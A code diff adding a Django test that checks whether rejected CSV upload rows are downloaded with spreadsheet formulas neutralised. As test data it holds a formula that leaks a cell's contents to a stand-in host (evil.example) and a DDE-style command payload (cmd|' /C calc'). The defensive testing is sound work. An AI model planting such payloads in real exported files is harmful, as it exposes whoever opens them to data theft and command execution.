@@ -1,7 +1,10 @@
 """Report data is hostile too: formulas in exported cells and SQL in report parameters."""
 
 import csv
+import html
 import io
+import re
+import urllib.request
 from io import StringIO
 
 import pytest
@@ -12,9 +15,14 @@ from django.urls import reverse
 
 from dashboard.engines import engine_run
 from dashboard.reports import REPORTS
-from dashboard.selectors import FORMULA_START, PLAIN_NUMBER
 from ordersite.aws.athena import athena_literal
+from pipeline_admin.models import Upload
 from pipeline_admin.runtime import runtime_drain
+from pipeline_admin.services import uploads_sync
+
+# What a spreadsheet runs as a formula (OWASP CSV injection), and what it reads as a plain number.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
 
 FORMULAS = {
     "F-1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -130,3 +138,36 @@ def test_athena_receives_a_parameter_carrying_sql_as_one_string_literal():
             if isinstance(eq.this, sqlglot.exp.Column) and eq.this.name == "customer"
         }
         assert customer_values == {hostile}, hostile
+
+
+REJECTED = [  # order_id, amount, order_date, customer: each row is rejected for its amount or date
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "abc", "2025-05-01", "Acme"],
+    ["R2", "=1+1", "2025-05-02", "@SUM(A1:A9)"],
+    ["R3", "-12.50", "someday", "-2+3+cmd|' /C calc'!A0"],
+    ["R4", "+SUM(1;2)", "2025-05-04", "\tTabbed"],
+]
+
+
+def test_the_download_of_all_rejected_rows_neutralises_formulas_and_keeps_negative_numbers(
+    client, twin, uploader, pipeline_admin
+):
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerows([["order_id", "amount", "order_date", "customer"], *REJECTED, ["R5", "10.00", "2025-05-05", "Ok"]])
+    client.force_login(uploader)
+    upload = SimpleUploadedFile("rejects.csv", out.getvalue().encode())
+    client.post(reverse("pipeline_admin:upload"), {"files": [upload], "as_of": "2025-06-01"})
+    runtime_drain()
+    uploads_sync()
+    client.force_login(pipeline_admin)
+    item = Upload.objects.get()
+    page = client.get(reverse("pipeline_admin:upload_detail", args=[item.pk])).content.decode()
+    link = html.unescape(re.search(r'id="rejected-download" href="([^"]+)"', page).group(1))
+    with urllib.request.urlopen(link, timeout=10) as response:
+        rows = list(csv.reader(io.StringIO(response.read().decode())))
+
+    def inert(cell: str) -> str:
+        return "'" + cell if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell) else cell
+
+    assert [row[2:] for row in rows[1:]] == [[inert(cell) for cell in row] for row in REJECTED]
+    assert rows[1][2].startswith("'=HYPERLINK(") and rows[3][3] == "-12.50"  # negative numbers stay numbers
